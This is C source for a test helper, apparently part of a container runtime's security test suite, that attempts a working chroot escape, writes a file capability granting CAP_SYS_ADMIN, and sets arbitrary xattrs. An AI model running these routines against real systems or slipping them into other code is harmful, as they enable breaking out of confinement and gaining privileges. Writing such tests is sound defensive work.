/*
 * Attacks a container's process tries on its runtime, for tests/security and tests/docker:
 *   attack escape CMD [ARG...]   the textbook chroot escape (chroot into a subdirectory of
 *                                /tmp, chdir("..") past the root, chroot(".")), then exec CMD
 *                                in whatever root that left; each failing step is reported
 *   attack setcap FILE           set a security.capability granting CAP_SYS_ADMIN
 *   attack setxattr FILE NAME VALUE
 * setcap and setxattr print "ok" or the errno's text, and exit 0 either way: the caller
 * asserts on what they print and on what reached the host.
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

#define CAP_SYS_ADMIN 21
/* linux/capability.h's struct vfs_cap_data, revision 2, with the effective bit set. */
#define VFS_CAP_REVISION_2 0x02000000
#define VFS_CAP_FLAGS_EFFECTIVE 0x000001

struct vfs_cap_v2 {
	uint32_t magic_etc;
	struct {
		uint32_t permitted, inheritable;
	} data[2];
};

static void step(const char *what, int ret)
{
	if (ret < 0)
		fprintf(stderr, "attack: escape: %s: %s\n", what, strerror(errno));
}

static int escape(char **argv)
{
	char dir[] = "/tmp/attack-escape.XXXXXX";

	if (!mkdtemp(dir))
		step("mkdtemp in /tmp", -1);
	/* The cwd stays outside the new root, and ".." is only stopped at a process's root. */
	step("chroot into a subdirectory", chroot(dir));
	for (int i = 0; i < 256; i++)
		(void)chdir("..");
	step("chroot(\".\")", chroot("."));
	step("chdir(\"/\")", chdir("/"));
	execvp(argv[0], argv);
	fprintf(stderr, "attack: exec %s: %s\n", argv[0], strerror(errno));
	return 127;
}

static int report(int ret)
{
	puts(ret < 0 ? strerror(errno) : "ok");
	return 0;
}

static int setcap(const char *file)
{
	struct vfs_cap_v2 cap = {
		.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
		.data = { { .permitted = 1u << CAP_SYS_ADMIN } },
	};

	return report(setxattr(file, "security.capability", &cap, sizeof(cap), 0));
}

int main(int argc, char **argv)
{
	if (argc >= 3 && !strcmp(argv[1], "escape"))
		return escape(argv + 2);
	if (argc == 3 && !strcmp(argv[1], "setcap"))
		return setcap(argv[2]);
	if (argc == 5 && !strcmp(argv[1], "setxattr"))
		return report(setxattr(argv[2], argv[3], argv[4], strlen(argv[4]), 0));
	fprintf(stderr, "usage: attack escape CMD [ARG...] | setcap FILE | "
			"setxattr FILE NAME VALUE\n");
	return 2;
}
